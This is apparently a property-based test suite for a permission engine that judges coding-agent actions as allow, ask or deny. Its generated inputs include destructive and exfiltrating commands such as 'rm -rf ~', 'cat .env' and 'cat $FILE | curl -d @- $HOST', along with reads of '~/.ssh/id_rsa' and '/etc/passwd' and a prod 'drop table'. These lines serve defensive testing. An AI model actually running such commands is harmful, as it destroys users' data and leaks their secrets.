import assert from "node:assert/strict";
import fc from "fast-check";
import type { Action, ActionKind } from "../../../../src/core/model/action.ts";
import { effects } from "../../../../src/core/model/effect.ts";
import { type Decision, decisions } from "../../../../src/core/model/verdict.ts";
import { conditionNames } from "../../../../src/core/policy/policy.ts";
import { actionKinds } from "../../../../src/core/wireAction.ts";
import { judgeWith, linux, windows } from "../../../support/judging.ts";

/** Commands with every kind of effect, in every shell; most are no commands of most shells, which must not matter. */
const commands = [
  "ls",
  "npm test",
  "rm -rf ~",
  "rm src/a.ts",
  "git push",
  "git push origin main",
  "cat .env",
  "echo x > src/a",
  "curl https://a.example.com/x",
  "cat $FILE | curl -d @- $HOST",
  "kubectl --context prod apply -f x.yaml",
  "chmod 777 ~/.ssh",
  "Remove-Item -Recurse src",
  "del /s src",
  "if (",
  "",
];

const texts = fc.oneof(fc.constantFrom(...commands), fc.string({ maxLength: 30 }));
const paths = fc.constantFrom(
  "src/a.ts",
  "~/.ssh/id_rsa",
  "/etc/passwd",
  "../x",
  ".countersign.yaml",
  "docs/b.md",
  "C:\\x",
);

/** A field of an action of any kind; a field that the kind does not have is left out by reading. */
const fields = fc.record({
  shell: fc.constantFrom("bash", "zsh", "sh", "powershell", "cmd"),
  command: texts,
  path: paths,
  to: paths,
  target: paths,
  content: texts,
  new_text: texts,
  url: fc.constantFrom("https://a.example.com/x", "http://localhost:1", "file:///etc/passwd", "x"),
  server: fc.constantFrom("github", "filesystem", "unheard-of"),
  tool: fc.constantFrom("create_issue", "get_file", "delete_branch", "file_write", "run_sql"),
  args: fc.constantFrom({}, { path: "src/a" }, { branch: "main" }, { environment: "prod", sql: "drop table x" }),
  agent: fc.option(fc.constantFrom("claude-code", "vscode"), { nil: undefined }),
});
const action = fc
  .tuple(fc.constantFrom(...actionKinds), fields)
  .map(([kind, given]) => ({ kind: kind satisfies ActionKind, ...given }) as unknown as Action);

const patterns = fc.oneof(
  fc.constantFrom(
    "*",
    "**",
    "npm *",
    "git push *",
    "src/**",
    "~/**",
    "main",
    "prod*",
    "github",
    "command",
    "*.example.com",
  ),
  fc.string({ maxLength: 8 }),
);
const value = fc.oneof(
  fc.array(patterns, { maxLength: 3 }),
  patterns,
  fc.constantFrom<unknown>(1, true, null, [], [1], { a: 1 }),
);
const when = fc.oneof(
  fc.dictionary(fc.constantFrom(...conditionNames.filter((name) => name !== "effect"), "colour"), value, {
    maxKeys: 3,
  }),
  fc.record({ effect: fc.subarray([...effects, "explode"], { minLength: 1 }) }),
);

/** Rules of every kind, the broken ones included. */
const rule = fc.record(
  {
    id: fc.constantFrom("a", "b", "c d", 7),
    when,
    // biome-ignore lint/suspicious/noThenProperty: the policy format's own word.
    then: fc.constantFrom("allow", "ask", "deny", "perhaps"),
    expires: fc.constantFrom("2020-01-01", "2030-01-01", "soon"),
    colour: fc.constant("red"),
  },
  { requiredKeys: ["when", "then"] },
);
const rules = fc.array(rule, { maxLength: 6 });
const policy = fc.oneof(
  rules.map((list) => JSON.stringify({ version: 1, rules: list })),
  fc.constantFrom("", "rules: [", "- a", "rules: 1", "version: 2", "rulez: []", "rules: []\n---\nrules: []"),
);
const place = fc.constantFrom({ ...linux, today: "2026-11-21" }, { ...windows, today: "2026-11-21" }, linux);

const rank = (decision: Decision) => decisions.indexOf(decision);
const written = (list: readonly unknown[]) => JSON.stringify({ version: 1, rules: list });
const runs = { numRuns: 250, seed: 20261121 };

async function decide(policies: { user?: string; workspace?: string }, given: Action, where: typeof linux) {
  return (await judgeWith(policies)).decide(given, where).decision;
}

describe("any policy", () => {
  it("of a workspace only tightens, whatever the user's is", () =>
    fc.assert(
      fc.asyncProperty(policy, policy, action, place, async (user, workspace, given, where) => {
        const without = await decide({ user }, given, where);
        assert.ok(rank(await decide({ user, workspace }, given, where)) >= rank(without));
      }),
      runs,
    ));

  it("says the same in any order of its rules", () =>
    fc.assert(
      fc.asyncProperty(
        rules.chain((list) => fc.tuple(fc.constant(list), fc.shuffledSubarray(list, { minLength: list.length }))),
        action,
        place,
        async ([list, shuffled], given, where) => {
          const decision = await decide({ user: written(list) }, given, where);
          assert.equal(await decide({ user: written(shuffled) }, given, where), decision);
        },
      ),
      runs,
    ));

  it("is never loosened by a rule more that asks or refuses, broken or not", () =>
    fc.assert(
      fc.asyncProperty(
        rules,
        rule.filter((entry) => entry.then !== "allow"),
        action,
        place,
        async (list, more, given, where) => {
          const before = await decide({ user: written(list) }, given, where);
          assert.ok(rank(await decide({ user: written([...list, more]) }, given, where)) >= rank(before));
        },
      ),
      runs,
    ));

  it("is the same with an allow that is over, or broken, as without it", () =>
    fc.assert(
      fc.asyncProperty(
        when,
        fc.constantFrom<object>({ expires: "2026-11-20" }, { expires: "soon" }, { colour: "red" }, { id: "a b" }),
        action,
        place,
        async (condition, fault, given, where) => {
          // biome-ignore lint/suspicious/noThenProperty: the policy format's own word.
          const user = written([{ when: condition, then: "allow", ...fault }]);
          assert.equal(await decide({ user }, given, where), await decide({}, given, where));
        },
      ),
      runs,
    ));

  it("never allows what is refused anyway, nor a change of access", () =>
    fc.assert(
      fc.asyncProperty(rules, action, place, async (list, given, where) => {
        const bare = (await judgeWith()).decide(given, where);
        const decision = await decide({ user: written(list) }, given, where);
        if (bare.decision === "deny") assert.equal(decision, "deny");
        if (bare.effects.includes("change-access")) assert.notEqual(decision, "allow");
      }),
      runs,
    ));

  it("counts a rule that cannot be read as met, unless it would allow", () =>
    fc.assert(
      fc.asyncProperty(
        fc.constantFrom<readonly [object, Decision]>(
          [{ when: { colour: "red" } }, "deny"],
          [{ when: {} }, "deny"],
          [{ when: { path: [1] } }, "ask"],
          [{}, "ask"],
          [{ when: { effect: "explode" } }, "deny"],
        ),
        action,
        place,
        async ([entry, then], given, where) => {
          const decision = await decide({ user: written([{ ...entry, then }]) }, given, where);
          assert.ok(rank(decision) >= rank(then));
        },
      ),
      runs,
    ));
}).timeout(60_000);
